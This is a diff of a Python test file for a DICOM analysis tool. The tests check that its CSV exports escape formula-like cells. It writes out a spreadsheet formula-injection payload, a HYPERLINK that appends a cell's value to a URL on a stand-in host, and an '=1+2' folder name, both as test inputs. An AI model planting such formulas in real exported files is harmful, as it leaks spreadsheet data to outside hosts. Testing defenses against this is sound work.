@@ -18,11 +18,13 @@ FORMULA = '=HYPERLINK("http://example.com/x?"&A1,"click")'
 
 
 def _study(folder: Path) -> Path:
-    folder.mkdir(parents=True)
-    for f in sorted((SAMPLES / "t1_axial" / "01_t1").glob("*.dcm")):
+    """The Dixon sample (its quick analysis has nodules deep to the fascia), named ``FORMULA``."""
+    for f in sorted((SAMPLES / "dixon").rglob("*.dcm")):
         ds = pydicom.dcmread(f)
         ds.SeriesDescription = FORMULA
-        ds.save_as(folder / f.name)
+        path = folder / f.relative_to(SAMPLES / "dixon")
+        path.parent.mkdir(parents=True, exist_ok=True)
+        ds.save_as(path)
     return folder
 
 
@@ -47,11 +49,13 @@ def test_analyze_csv_is_safe_and_json_keeps_the_name(tmp_path):
 def test_batch_tables(tmp_path):
     _study(tmp_path / "cohort" / "=1+2")
     out = tmp_path / "out"
-    argv = ["batch", str(tmp_path / "cohort"), "--out", str(out), "--workers", "1", "--no-qc"]
+    # In this process (no worker to start): the tables are the test, not the pool.
+    argv = ["batch", str(tmp_path / "cohort"), "--out", str(out), "--workers", "0", "--no-qc"]
     assert main([*argv, "--quiet"]) == 0
     with (out / "studies.csv").open(encoding="utf-8") as fh:
         [row] = list(csv.DictReader(fh))
-    assert row["folder"] == "'=1+2" and row["series_description"] == "'" + FORMULA
+    # The Dixon pair's two descriptions (both the formula), escaped once, at the cell's start.
+    assert row["folder"] == "'=1+2" and row["series_description"] == f"'{FORMULA};{FORMULA}"
     for line in (out / "nodules.csv").read_text(encoding="utf-8").splitlines()[1:]:
         assert not line.startswith(("=", "+", "-", "@"))
     frame = pd.read_parquet(out / "nodules.parquet")
